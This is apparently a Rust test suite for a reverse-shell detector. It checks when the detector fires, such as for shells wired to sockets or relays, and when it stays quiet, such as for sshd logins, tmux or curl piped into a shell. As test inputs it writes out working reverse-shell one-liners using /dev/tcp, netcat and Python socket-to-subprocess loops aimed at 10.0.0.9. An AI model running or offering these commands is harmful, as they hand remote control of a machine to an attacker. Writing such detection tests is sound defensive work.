use super::scenario::*;
use detection::Direction as Way;
use event::Direction::{Accepted, Connected};
use event::Origin;
use programs::executable::{InterpreterFamily, Kind, Multiplexer, ShellFamily, SshServer};
use programs::script::Verdict;

const MODULE: &str = "REVERSE_SHELL";

fn bash() -> Kind {
    Kind::Shell(ShellFamily::Bash)
}

fn python() -> Kind {
    Kind::Interpreter(InterpreterFamily::Python)
}

#[test]
fn standard_input_bound_to_a_socket_fires_for_any_program() {
    for (kind, path, arguments) in [
        (bash(), "/bin/bash", &["bash", "-i"][..]),
        (Kind::Unknown, "/bin/echo", &["/bin/echo"]),
        (Kind::Unknown, "/bin/cat", &["cat"]),
        (python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"]),
    ] {
        let mut world = World::new();
        let found = world
            .exec(INIT, 11, kind, path, arguments, &[tcp(0, 50, Connected), tcp(1, 50, Connected)])
            .unwrap();
        assert_eq!((found.metadata.module, found.direction), (MODULE, Way::Reverse));
    }
}

#[test]
fn a_served_connection_fires_for_what_takes_commands_only() {
    let served = [tcp(0, 50, Accepted), tcp(1, 50, Accepted)];
    let mut world = World::new();
    assert!(world.exec(INIT, 11, Kind::Unknown, "/usr/sbin/in.ftpd", &["in.ftpd"], &served).is_none());
    assert!(world.exec(INIT, 12, bash(), "/bin/bash", &["bash", "/srv/handler.sh"], &served).is_none());
    let found = world.exec(INIT, 13, bash(), "/bin/bash", &["bash"], &served).unwrap();
    assert_eq!((found.metadata.module, found.direction), (MODULE, Way::Bind));
}

#[test]
fn a_terminal_held_by_a_process_with_a_socket() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "-c", "x"], &[]);
    world.opens(10, &[tcp(3, 50, Connected), master(4, 2)]);
    let found =
        world.exec(10, 11, bash(), "/bin/bash", &["bash"], &[slave(0, 2), slave(1, 2), slave(2, 2)]).unwrap();
    assert_eq!((found.metadata.module, found.terminal), (MODULE, true));
}

#[test]
fn a_shell_that_was_there_before_its_parent_connected() {
    let mut world = World::new();
    world.exec(
        INIT,
        10,
        Kind::Interpreter(InterpreterFamily::Node),
        "/usr/bin/node",
        &["node", "x.js"],
        &[unix(20, 60, 61)],
    );
    assert!(world.exec(10, 11, bash(), "/bin/sh", &["sh"], &[unix(0, 61, 60), unix(1, 63, 62)]).is_none());
    world.opens(10, &[tcp(30, 50, Connected)]);
    assert_eq!(world.again(11).unwrap().metadata.module, MODULE);
}

#[test]
fn one_command_at_a_time_through_pipes() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "-c", "import socket"], &[]);
    world.opens(10, &[tcp(3, 50, Connected), reads_pipe(5, 70)]);
    let found = world.exec(10, 11, bash(), "/bin/sh", &["sh", "-c", "id"], &[writes_pipe(1, 70)]).unwrap();
    assert_eq!(found.metadata.module, MODULE);
    assert!(
        world.exec(10, 12, bash(), "/bin/sh", &["sh", "-c", "ls"], &[writes_pipe(1, 70)]).is_none(),
        "one session"
    );
}

#[test]
fn quiet_for_an_application_that_runs_a_command() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/app.py"], &[]);
    world.opens(10, &[tcp(3, 50, Accepted), reads_pipe(5, 70)]);
    assert!(
        world.exec(10, 11, bash(), "/bin/sh", &["sh", "-c", "convert a b"], &[writes_pipe(1, 70)]).is_none()
    );
}

#[test]
fn quiet_for_a_download_piped_into_a_shell() {
    let mut world = World::new();
    world.exec(INIT, 10, Kind::Unknown, "/usr/bin/curl", &["curl", "x"], &[writes_pipe(1, 70)]);
    world.opens(10, &[tcp(3, 50, Connected)]);
    assert!(world.exec(INIT, 11, bash(), "/bin/sh", &["sh"], &[reads_pipe(0, 70)]).is_none());
}

#[test]
fn quiet_for_a_login_through_an_ssh_server() {
    let mut world = World::new();
    world.exec(INIT, 10, Kind::SshServer(SshServer::OpenSsh), "/usr/sbin/sshd", &["sshd: u@pts/0"], &[]);
    world.opens(10, &[tcp(3, 50, Accepted), master(4, 2)]);
    assert!(world.exec(10, 11, bash(), "/bin/bash", &["-bash"], &[slave(0, 2), slave(1, 2)]).is_none());
}

#[test]
fn a_shell_between_two_clients() {
    let mut world = World::new();
    world.exec(INIT, 10, Kind::Unknown, "/usr/bin/telnet", &["telnet", "h", "1"], &[writes_pipe(1, 70)]);
    world.exec(INIT, 12, Kind::Unknown, "/usr/bin/telnet", &["telnet", "h", "2"], &[reads_pipe(0, 71)]);
    world.opens(10, &[tcp(3, 50, Connected)]);
    world.opens(12, &[tcp(3, 51, Connected)]);
    let found = world.exec(INIT, 11, bash(), "/bin/sh", &["sh"], &[reads_pipe(0, 70), writes_pipe(1, 71)]);
    assert_eq!(found.unwrap().metadata.module, MODULE);
}

#[test]
fn quiet_for_the_windows_of_a_multiplexer() {
    for kind in [Kind::Multiplexer(Multiplexer::Tmux), Kind::Unknown] {
        let mut world = World::new();
        world.exec(INIT, 10, kind, "/usr/bin/tmux", &["tmux"], &[]);
        world.opens(10, &[master(5, 1), master(6, 2)]);
        world.exec(10, 11, Kind::Unknown, "/usr/bin/ssh", &["ssh", "h"], &[slave(0, 1), slave(1, 1)]);
        world.opens(11, &[tcp(3, 50, Connected)]);
        assert!(world.exec(10, 12, bash(), "/bin/bash", &["bash"], &[slave(0, 2), slave(1, 2)]).is_none());
    }
}

#[test]
fn quiet_for_what_a_multiplexers_helper_inherited() {
    let mut world = World::new();
    world.exec(INIT, 10, Kind::Multiplexer(Multiplexer::Tmux), "/usr/bin/tmux", &["tmux"], &[]);
    world.opens(10, &[master(5, 1), master(6, 2)]);
    let inherited = [master(5, 1), master(6, 2), tcp(7, 51, Connected)];
    world.exec(10, 13, Kind::Unknown, "/usr/lib/utempter", &["utempter"], &inherited);
    world.exec(10, 11, Kind::Unknown, "/usr/bin/nc", &["nc", "h", "1"], &[slave(0, 1), slave(1, 1)]);
    world.opens(11, &[tcp(3, 50, Connected)]);
    assert!(world.exec(10, 12, bash(), "/bin/bash", &["bash"], &[slave(0, 2), slave(1, 2)]).is_none());
}

#[test]
fn quiet_for_a_multiplexer_that_inherited_a_connection() {
    let mut world = World::new();
    world.exec(
        INIT,
        10,
        Kind::Multiplexer(Multiplexer::Tmux),
        "/usr/bin/tmux",
        &["tmux"],
        &[tcp(3, 50, Connected)],
    );
    world.opens(10, &[master(6, 2)]);
    assert!(world.exec(10, 12, bash(), "/bin/bash", &["bash"], &[slave(0, 2), slave(1, 2)]).is_none());
}

#[test]
fn a_multiplexer_is_followed_to_a_terminal_only() {
    for (held, is_found) in [(slave(0, 1), true), (reads_pipe(0, 70), false), (unix(0, 60, 61), false)] {
        let mut world = World::new();
        world.exec(INIT, 9, Kind::Unknown, "/srv/relay", &["relay"], &[]);
        world.opens(9, &[tcp(3, 50, Connected), master(4, 1), writes_pipe(5, 70), unix(6, 61, 60)]);
        world.exec(INIT, 10, Kind::Multiplexer(Multiplexer::Tmux), "/usr/bin/tmux", &["tmux"], &[held]);
        world.opens(10, &[master(6, 2)]);
        let found = world.exec(10, 12, bash(), "/bin/bash", &["bash"], &[slave(0, 2), slave(1, 2)]);
        assert_eq!(found.is_some(), is_found);
    }
}

#[test]
fn quiet_for_a_supervisor_that_reads_one_child_and_feeds_another() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/s.py"], &[]);
    world.opens(10, &[reads_pipe(5, 70), writes_pipe(6, 71), reads_pipe(7, 72)]);
    world.exec(10, 11, Kind::Unknown, "/usr/bin/nc", &["nc", "h", "1"], &[writes_pipe(1, 70)]);
    world.opens(11, &[tcp(3, 50, Connected)]);
    let shell = [reads_pipe(0, 71), writes_pipe(1, 72)];
    assert!(world.exec(10, 12, bash(), "/bin/bash", &["bash"], &shell).is_none());
}

#[test]
fn quiet_for_an_application_that_knows_a_service() {
    let mut world = World::new();
    world.exec(INIT, 9, Kind::Unknown, "/usr/sbin/mysqld", &["mysqld"], &[]);
    world.opens(9, &[serves(3, 90), unix(4, 91, 92), tcp(5, 50, Accepted)]);
    world.exec(INIT, 8, Kind::Unknown, "/usr/sbin/rsyslogd", &["rsyslogd"], &[]);
    world.opens(8, &[datagrams(3, 95, 0), tcp(5, 51, Connected)]);
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/app.py"], &[]);
    world.opens(10, &[unix(4, 92, 91), datagrams(5, 96, 95), unix(6, 60, 61)]);
    assert!(world.exec(10, 11, bash(), "/bin/sh", &["sh"], &[unix(0, 61, 60), unix(1, 61, 60)]).is_none());
}

#[test]
fn any_number_of_relays_is_followed() {
    let mut world = World::new();
    for relay in 0..8u64 {
        let pid = 20 + relay as u32;
        world.exec(INIT, pid, Kind::Unknown, "/srv/relay", &["relay"], &[]);
        world.opens(
            pid,
            &[unix(4, 100 + 2 * relay, 101 + 2 * relay), unix(5, 103 + 2 * relay, 102 + 2 * relay)],
        );
    }
    world.exec(INIT, 40, Kind::Unknown, "/srv/relay", &["relay"], &[]);
    world.opens(40, &[unix(4, 116, 117), tcp(5, 50, Connected)]);
    let shell = [unix(0, 101, 100), unix(1, 101, 100)];
    let found = world.exec(INIT, 41, bash(), "/bin/sh", &["sh"], &shell).unwrap();
    assert_eq!(found.enriched.relays.len(), 9);
}

#[test]
fn a_relay_outside_the_container_is_followed_and_its_runtime_is_not() {
    for (path, found) in [("/srv/relay", true), ("/usr/bin/containerd-shim-runc-v2", false)] {
        let mut world = World::new();
        world.contained = false;
        world.exec(INIT, 10, Kind::Unknown, path, &["x"], &[]);
        world.opens(10, &[unix(4, 60, 61), tcp(5, 50, Connected)]);
        world.contained = true;
        let shell = [unix(0, 61, 60), unix(1, 61, 60)];
        assert_eq!(world.exec(INIT, 11, bash(), "/bin/sh", &["sh"], &shell).is_some(), found, "{path}");
    }
}

#[test]
fn a_second_connection_of_the_same_implant_is_not_a_second_session() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "-c", "import socket"], &[]);
    world.opens(10, &[tcp(3, 50, Connected), reads_pipe(5, 70)]);
    assert!(world.exec(10, 11, bash(), "/bin/sh", &["sh", "-c", "id"], &[writes_pipe(1, 70)]).is_some());
    world.opens(10, &[tcp(4, 51, Connected)]);
    assert!(world.exec(10, 12, bash(), "/bin/sh", &["sh", "-c", "ls"], &[writes_pipe(1, 70)]).is_none());
}

#[test]
fn two_clients_of_one_relay_are_two_sessions() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"], &[]);
    world.opens(10, &[tcp(3, 50, Accepted), tcp(4, 51, Accepted), unix(5, 60, 61), unix(6, 62, 63)]);
    let first = world.exec(10, 11, bash(), "/bin/sh", &["sh"], &[unix(0, 61, 60), unix(1, 61, 60)]).unwrap();
    let second = world.exec(10, 12, bash(), "/bin/sh", &["sh"], &[unix(0, 63, 62), unix(1, 63, 62)]).unwrap();
    assert_ne!(first.session, second.session);
    assert!(
        world.exec(11, 13, bash(), "/bin/bash", &["bash"], &[unix(0, 61, 60), unix(1, 61, 60)]).is_none(),
        "a shell within the first session"
    );
}

#[test]
fn a_program_that_connects_by_itself_and_executes_what_it_reads() {
    let mut world = World::new();
    let text = "exec 3<>/dev/tcp/10.0.0.9/9001; while read -r l <&3; do eval \"$l\" >&3; done";
    assert!(
        world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-c", text], &[tcp(7, 40, Accepted)]).is_none()
    );
    world.opens(11, &[tcp(3, 50, Connected)]);
    let found = world.again(11).unwrap();
    assert_eq!((found.metadata.module, found.endpoint.unwrap().inode), (MODULE, 50));
}

#[test]
fn a_connection_of_its_own_counts_whoever_started_the_program() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "-c", "import os"], &[]);
    let text = "exec 3<>/dev/tcp/10.0.0.9/9001; while read -r l <&3; do eval \"$l\" >&3; done";
    world.exec(10, 11, bash(), "/bin/bash", &["bash", "-c", text], &[]);
    world.opens(11, &[tcp(3, 50, Connected)]);
    assert!(world.again(11).is_some());
}

#[test]
fn quiet_for_a_program_that_connects_and_reads_only() {
    let mut world = World::new();
    let text = "exec 3<>/dev/tcp/10.0.0.9/9001; head -1 <&3";
    world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-c", text], &[]);
    world.opens(11, &[tcp(3, 50, Connected)]);
    assert!(world.again(11).is_none());
}

#[test]
fn commands_from_another_descriptor() {
    let mut world = World::new();
    let found = world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "/dev/fd/5"], &[tcp(5, 50, Connected)]);
    assert_eq!(found.unwrap().endpoint.unwrap().inode, 50);
    let substituted = [reads_pipe(63, 70)];
    assert!(world.exec(INIT, 12, bash(), "/bin/bash", &["bash", "/dev/fd/63"], &substituted).is_none());
}

#[test]
fn quiet_for_a_command_that_an_inline_program_always_runs() {
    let mut world = World::new();
    let text = "import os,http.client; print(os.popen('uname -p').read())";
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "-c", text], &[]);
    world.opens(10, &[tcp(3, 50, Connected), reads_pipe(5, 70)]);
    let command = |text| ["sh", "-c", text];
    assert!(world.exec(10, 11, bash(), "/bin/sh", &command("uname -p"), &[writes_pipe(1, 70)]).is_none());
    assert!(world.exec(10, 12, bash(), "/bin/sh", &command("id"), &[writes_pipe(1, 70)]).is_some());
}

#[test]
fn a_server_of_logins_is_known_by_more_than_words() {
    let mut world = World::new();
    world.genuine = false;
    world.exec(INIT, 10, Kind::SshServer(SshServer::OpenSsh), "/usr/sbin/sshd", &["sshd: u@pts/0"], &[]);
    world.opens(10, &[tcp(3, 50, Accepted), master(4, 2)]);
    assert!(world.exec(10, 11, bash(), "/bin/bash", &["-bash"], &[slave(0, 2), slave(1, 2)]).is_some());
}

#[test]
fn quiet_for_a_program_that_only_reads_from_a_connection() {
    let mut world = World::new();
    let input = [tcp(0, 50, Connected), writes_pipe(1, 70)];
    assert!(world.exec(INIT, 11, Kind::Unknown, "/usr/bin/head", &["head", "-1"], &input).is_none());
    let found = world.exec(INIT, 12, bash(), "/bin/sh", &["sh"], &input).unwrap();
    assert_eq!(found.direction, Way::Reverse, "a shell needs nobody who reads its answers");
}

#[test]
fn quiet_for_a_script_that_is_met_with_a_connection_as_its_input() {
    let holds = [tcp(0, 50, Connected), tcp(1, 50, Connected)];
    for arguments in [&["bash", "-c", "exec 0<>/dev/tcp/h/1 1>&0; read -r x"][..], &["bash", "/srv/check.sh"]]
    {
        let mut world = World::new();
        world.origin = Origin::Snapshot;
        assert!(world.exec(INIT, 11, bash(), "/bin/bash", arguments, &holds).is_none(), "{arguments:?}");
        world.origin = Origin::Probe;
        assert!(world.exec(INIT, 12, bash(), "/bin/bash", arguments, &holds).is_some(), "{arguments:?}");
    }
    let mut world = World::new();
    world.origin = Origin::Snapshot;
    assert!(world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-i"], &holds).is_some());
}

#[test]
fn a_script_that_runs_what_it_receives() {
    let script = &["python3", "/srv/x.py"];
    let text =
        "import socket,subprocess\nwhile True: subprocess.run(s.recv(99), shell=True, capture_output=True)";
    for direction in [Connected, Accepted] {
        let mut world = World::new();
        world.exec(INIT, 10, python(), "/usr/bin/python3.11", script, &[]);
        world.opens(10, &[tcp(3, 50, direction), reads_pipe(5, 70)]);
        world.tell_text(10, text);
        assert!(world.again(10).is_none(), "it may, but has run nothing yet");
        let run = |command| ["sh", "-c", command];
        let found = world.exec(10, 11, bash(), "/bin/sh", &run("id"), &[writes_pipe(1, 70)]).unwrap();
        assert_eq!((found.metadata.module, found.opener.unwrap().process.pid), (MODULE, 10));
        assert!(world.exec(10, 12, bash(), "/bin/sh", &run("ls"), &[writes_pipe(1, 70)]).is_none());
    }
}

#[test]
fn what_runs_commands_has_other_pipes_by_the_time_its_script_was_read() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"], &[]);
    world.opens(10, &[tcp(3, 50, Connected), reads_pipe(5, 70)]);
    assert!(world.exec(10, 11, bash(), "/bin/sh", &["sh", "-c", "id"], &[writes_pipe(1, 70)]).is_none());
    // the next command is on its way, or the connection is closed
    world.holds(10, &[reads_pipe(5, 71)]);
    world.tell_text(10, "os.popen(s.recv(99))");
    assert!(world.again(11).is_some());
}

#[test]
fn a_command_that_needs_no_shell() {
    let start = |script: &[&str], program: &str, network| {
        let mut world = World::new();
        world.exec(INIT, 10, python(), "/usr/bin/python3.11", script, &[]);
        world.opens(10, &[tcp(3, 50, Connected), reads_pipe(5, 70)]);
        if network {
            world.tell_text(10, "subprocess.run(shlex.split(s.recv(99))); os.system('git pull')");
        }
        world.exec(10, 11, Kind::Unknown, program, &["x"], &[writes_pipe(1, 70)]).is_some()
    };
    let file = &["python3", "/srv/x.py"];
    assert!(start(file, "/usr/bin/id", true));
    assert!(!start(file, "/usr/bin/git", true), "its author named it");
    assert!(!start(file, "/usr/bin/id", false));
    let inline = "import socket,os\ns=socket.create_connection(('h',1))\nos.popen(s.recv(99))";
    assert!(start(&["python3", "-c", inline], "/usr/bin/id", false));
    assert!(!start(&["python3", "-c", "import pip"], "/usr/bin/id", false));
}

#[test]
fn a_copy_of_a_script_serves_the_connection() {
    let mut world = World::new();
    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"], &[]);
    world.tell_text(10, "os.popen(c.recv(99))");
    world.forks(10, 11, &[tcp(3, 50, Accepted), reads_pipe(5, 70)]);
    let found = world.exec(11, 12, bash(), "/bin/sh", &["sh", "-c", "id"], &[writes_pipe(1, 70)]);
    assert_eq!(found.unwrap().direction, Way::Bind);
}

#[test]
fn quiet_for_commands_that_a_script_names() {
    let text = "subprocess.run('date; sleep 1', shell=True); os.popen('convert ' + s.recv(99))";
    for (arguments, is_found) in [
        (&["sh", "-c", "date; sleep 1"][..], false),
        (&["sh", "-c", "convert a.png b.jpg"], false),
        (&["sh", "/srv/hook.sh"], false),
        (&["sh", "-c", "id"], true),
    ] {
        let mut world = World::new();
        world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"], &[]);
        world.opens(10, &[tcp(3, 50, Accepted), reads_pipe(5, 70)]);
        world.tell_text(10, text);
        let found = world.exec(10, 11, bash(), "/bin/sh", arguments, &[writes_pipe(1, 70)]);
        assert_eq!(found.is_some(), is_found, "{arguments:?}");
    }
}

#[test]
fn a_shell_script_that_connects_and_executes_what_it_reads() {
    let network = Verdict { network: true, ..Verdict::QUIET };
    for (verdict, is_found) in [(network, true), (Verdict::QUIET, false)] {
        let mut world = World::new();
        world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "/srv/x.sh"], &[]);
        world.opens(11, &[tcp(3, 50, Connected)]);
        world.tell_script(11, verdict);
        assert_eq!(world.again(11).is_some(), is_found);
    }
}

#[test]
fn quiet_for_what_a_script_of_known_text_writes_into_a_shell() {
    let mut world = World::new();
    world.exec(INIT, 9, Kind::Unknown, "/usr/sbin/server", &["server"], &[]);
    world.opens(9, &[tcp(3, 50, Accepted), unix(4, 60, 61)]);
    let served = [unix(0, 61, 60), unix(1, 61, 60)];
    world.exec(9, 10, bash(), "/bin/sh", &["sh", "-c", "(sleep 1; echo date) | sh"], &served);
    let stage = [unix(0, 61, 60), writes_pipe(1, 70)];
    world.exec(10, 11, Kind::Unknown, "/usr/bin/sleep", &["sleep", "1"], &stage);
    let shell = [reads_pipe(0, 70), unix(1, 61, 60)];
    assert!(world.exec(10, 12, bash(), "/bin/sh", &["sh"], &shell).is_none());
    // a stage that has opened a connection of its own
    world.opens(11, &[tcp(5, 51, Connected)]);
    assert!(world.exec(10, 13, bash(), "/bin/sh", &["sh"], &[reads_pipe(0, 70), unix(1, 61, 60)]).is_some());
}

#[test]
fn a_program_that_executes_what_its_client_reads() {
    for (text, is_found) in [
        ("nc 10.0.0.9 9001 | while read -r l; do eval \"$l\"; done", true),
        ("nc 10.0.0.9 9001 | while read -r l; do echo \"$l\"; done", false),
        // that shell is found
        ("nc 10.0.0.9 9001 | sh | nc 10.0.0.9 9002", false),
    ] {
        let mut world = World::new();
        world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-c", text], &[]);
        world.exec(11, 12, Kind::Unknown, "/usr/bin/nc", &["nc", "10.0.0.9", "9001"], &[writes_pipe(1, 70)]);
        world.opens(12, &[tcp(3, 50, Connected)]);
        assert!(world.again(11).is_none(), "nobody has said whose connection it is");
        world.connects(12);
        let found = world.again(11);
        assert_eq!(found.is_some(), is_found, "{text}");
        assert!(found.is_none_or(|f| f.opener.is_some_and(|o| o.process.pid == 12)));
    }
}
